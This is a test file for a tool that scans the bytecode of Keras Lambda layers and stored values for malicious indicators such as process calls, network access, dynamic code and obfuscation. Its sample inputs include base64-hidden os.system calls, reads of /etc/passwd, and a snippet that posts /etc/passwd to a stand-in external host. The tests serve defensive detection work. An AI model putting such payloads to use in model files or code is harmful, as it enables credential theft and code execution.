/**
 * Indicators: the malicious golden cases and Keras fixtures produce their category (with offsets and
 * evidence that point at real instructions and names); benign lambdas produce none.
 */
import { existsSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readCodeObject } from '../../src/core/python/marshal';
import { getInstructions } from '../../src/core/python/disassemble';
import { findIndicators, findValueIndicators } from '../../src/core/python/indicators';
import type { CodeObject, PyValue } from '../../src/core/python/objects';
import { b64bytes, loadGoldens } from './golden-data';
import { fixtureExpectations, fixturePayloads } from './decompile-fixtures';
import { CodeAnalysis } from '../../src/core/python/analysis';

/** What each malicious golden case does (from its source in the golden file). */
const GOLDEN_EXPECTED: Record<string, string[]> = {
  mal_os_system: ['process', 'dynamic-code'],
  mal_exec_b64: ['dynamic-code', 'obfuscation'],
  mal_eval_compile: ['dynamic-code'],
  mal_getattr_builtins: ['dynamic-code'],
  mal_subprocess: ['process'],
  mal_urlopen: ['network'],
  mal_socket: ['network'],
  mal_open_write: ['file'],
  mal_pickle: ['dynamic-code'],
  mal_subclasses: ['dynamic-code'],
  mal_globals_eval: ['dynamic-code', 'environment'],
  mal_nested_lambda: ['process'],
  mal_rot13_exec: ['dynamic-code', 'obfuscation'],
  mal_marshal_loads: ['dynamic-code', 'obfuscation'],
  mal_import_from: ['process'],
  mal_chr_build: ['dynamic-code', 'obfuscation'],
  mal_env_read: ['environment'],
};

/** Keras fixtures: category per payload source. */
const FIXTURE_EXPECTED: Record<string, string[]> = {
  mal_os_system: ['process'],
  mal_exec_b64: ['dynamic-code', 'obfuscation'],
  mal_exec_b64_inline: ['dynamic-code', 'obfuscation'],
  mal_eval: ['dynamic-code'],
  mal_open_passwd: ['file'],
  mal_subprocess: ['process'],
  mal_urllib: ['network'],
  mal_payload_in_defaults_closure: ['process'],
};

function allCode(code: CodeObject): Map<string, CodeObject> {
  const out = new Map<string, CodeObject>();
  const visit = (c: CodeObject, prefix: string): void => {
    const name = prefix ? `${prefix}.${c.name}` : c.name;
    if (!out.has(name)) out.set(name, c);
    const walk = (v: PyValue): void => {
      if (v.type === 'code') visit(v.code, name);
      else if (v.type === 'tuple') v.items.forEach(walk);
    };
    c.consts.forEach(walk);
  };
  visit(code, '');
  return out;
}

const goldens = loadGoldens().filter((g) => g.minor !== '3.15');

describe('findIndicators: golden corpus', () => {
  for (const g of goldens) {
    it(`${g.file}: malicious cases flagged, benign lambdas clean`, () => {
      let malicious = 0;
      for (const c of g.cases) {
        const code = readCodeObject(b64bytes(c.marshal_b64)).code;
        const inds = findIndicators(new CodeAnalysis(code, g.minor));
        const cats = new Set(inds.map((i) => i.category));
        const expected = GOLDEN_EXPECTED[c.id];
        if (expected) {
          malicious++;
          for (const cat of expected) expect(cats.has(cat as never), `${c.id}: ${cat} in ${JSON.stringify(inds)}`).toBe(true);
          // Offsets point at real instructions of the code object named in `where`.
          const codes = allCode(code);
          for (const ind of inds) {
            const target = codes.get(ind.where);
            expect(target, `${c.id}: where=${ind.where}`).toBeDefined();
            const offs = new Set(getInstructions(target!, g.minor).map((i) => i.offset));
            for (const o of ind.offsets) expect(offs.has(o), `${c.id}: offset ${o} in ${ind.where}`).toBe(true);
            expect(ind.evidence.length, c.id).toBeGreaterThan(0);
          }
        } else if (c.id.startsWith('lam_')) {
          expect(inds, `${c.id} is benign`).toEqual([]);
        }
      }
      expect(malicious).toBeGreaterThanOrEqual(12);
    });
  }

  it('cites the os.system call with its offsets and names (3.11)', () => {
    const g = goldens.find((x) => x.minor === '3.11')!;
    const c = g.cases.find((x) => x.id === 'mal_os_system')!;
    const inds = findIndicators(new CodeAnalysis(readCodeObject(b64bytes(c.marshal_b64)).code, '3.11'));
    const proc = inds.find((i) => i.category === 'process' && i.title.includes('os.system'));
    expect(proc).toBeDefined();
    expect(proc!.evidence).toEqual(expect.arrayContaining(['os', 'system', "'echo hi'"]));
    expect(proc!.where).toBe('<lambda>');
    const ins = getInstructions(readCodeObject(b64bytes(c.marshal_b64)).code, '3.11');
    const named = proc!.offsets.map((o) => ins.find((i) => i.offset === o)!.opname);
    expect(named).toEqual(expect.arrayContaining(['LOAD_GLOBAL']));
    expect(named.some((n) => n === 'LOAD_ATTR' || n === 'LOAD_METHOD')).toBe(true);
  });

  it('finds the call inside a nested lambda and names that code object', () => {
    const g = goldens.find((x) => x.minor === '3.12')!;
    const c = g.cases.find((x) => x.id === 'mal_nested_lambda')!;
    const inds = findIndicators(new CodeAnalysis(readCodeObject(b64bytes(c.marshal_b64)).code, '3.12'));
    expect(inds.find((i) => i.category === 'process')?.where).toBe('<lambda>.<lambda>');
  });
});

describe('findIndicators: Keras fixtures (CPython 3.11)', () => {
  for (const exp of fixtureExpectations()) {
    it(exp.file, async () => {
      const expected = FIXTURE_EXPECTED[exp.fixture ?? exp.file.replace(/\.(keras|h5)$/, '')] ?? FIXTURE_EXPECTED[exp.file.replace(/\.(keras|h5)$/, '')];
      for (const { lam, bytes } of await fixturePayloads(exp)) {
        const code = readCodeObject(bytes).code;
        const inds = [
          ...findIndicators(new CodeAnalysis(code, '3.11')),
          ...findValueIndicators(lam.stored_defaults, 'defaults'),
          ...findValueIndicators(lam.stored_closure, 'closure'),
        ];
        const cats = new Set(inds.map((i) => i.category));
        const benign = lam.benign === true || lam.benign === 'True';
        if (benign) expect(inds, `${lam.layer_name} is benign`).toEqual([]);
        else {
          expect(expected, `${exp.file} has an expectation`).toBeDefined();
          for (const cat of expected!) expect(cats.has(cat as never), `${lam.layer_name}: ${cat} in ${JSON.stringify(inds)}`).toBe(true);
        }
      }
    });
  }
});

describe('findValueIndicators', () => {
  it('flags shell commands, URLs and sensitive paths in stored defaults/closure', () => {
    expect(findValueIndicators(['echo inspector-test'], 'defaults').map((i) => i.category)).toContain('process');
    expect(findValueIndicators({ a: ['http://10.0.0.1:8080/x'] }, 'closure').map((i) => i.category)).toContain('network');
    expect(findValueIndicators(['/etc/passwd'], 'defaults').map((i) => i.category)).toContain('file');
    const hidden = findValueIndicators([btoa("__import__('os').system('id')")], 'closure');
    expect(hidden.map((i) => i.category)).toEqual(expect.arrayContaining(['obfuscation', 'dynamic-code']));
    for (const i of hidden) {
      expect(i.where).toBe('closure');
      expect(i.offsets).toEqual([]);
    }
  });
  it('leaves ordinary values alone', () => {
    expect(findValueIndicators([3.0, [1, 2], 'relu', 'channels_last', null, { scale: 0.5 }], 'defaults')).toEqual([]);
    expect(findValueIndicators(null, 'closure')).toEqual([]);
  });
});

describe('findIndicators: more shapes compiled by a local CPython (compile only)', () => {
  const cases: [string, string[]][] = [
    ["f = lambda x: sys.modules['os'].system('id') or x", ['process', 'environment']],
    ["f = lambda x: getattr(os, 'sys' + 'tem')('id') or x", ['process']],
    ["f = lambda x, n: getattr(os, n)('id') or x", ['obfuscation']],
    ["f = lambda x: exec(bytes.fromhex('7072696e74283129').decode()) or x", ['dynamic-code', 'obfuscation']],
    ["f = lambda x: __builtins__['eval']('1') or x", ['dynamic-code']],
    ["f = lambda x: os.environ['HOME'] and x", ['environment']],
    ["def f(x):\n    import requests\n    requests.post('https://e.example/x', data=open('/etc/passwd').read())\n    return x\n", ['network', 'file']],
    ["f = lambda x: importlib.import_module('subprocess').run(['id'])", ['process', 'dynamic-code']],
    ['f = lambda x: tf.nn.relu(x) + np.log(x) + K.sum(x) + x.eval() + x.compile', []],
  ];
  const py = ['3.12.1', '3.11.7', '3.13.0'].map((v) => join(homedir(), '.pyenv', 'versions', v, 'bin', 'python')).find((p) => existsSync(p));
  if (!py) {
    it.skip('no ~/.pyenv CPython 3.11–3.13 here: extra indicator shapes not compiled', () => {});
    return;
  }
  it('flags each shape with its categories and nothing for plain tensor maths', () => {
    const script = join(import.meta.dirname, '..', '..', 'scripts', 'oracle', 'roundtrip.py');
    const input = { compile: cases.map(([source], i) => ({ id: String(i), source, target: source.startsWith('def') ? 'f' : '<lambda>' })) };
    const out = spawnSync(py, [script], { input: JSON.stringify(input), encoding: 'utf8' });
    expect(out.status, out.stderr).toBe(0);
    const res = JSON.parse(out.stdout) as { version: string; compiled: { id: string; marshal_b64: string }[] };
    for (const c of res.compiled) {
      const [source, expected] = cases[Number(c.id)];
      const inds = findIndicators(new CodeAnalysis(readCodeObject(b64bytes(c.marshal_b64)).code, res.version));
      const cats = [...new Set(inds.map((i) => i.category))].sort();
      if (expected.length === 0) expect(inds, source).toEqual([]);
      else for (const cat of expected) expect(cats, source).toContain(cat);
    }
  });
});
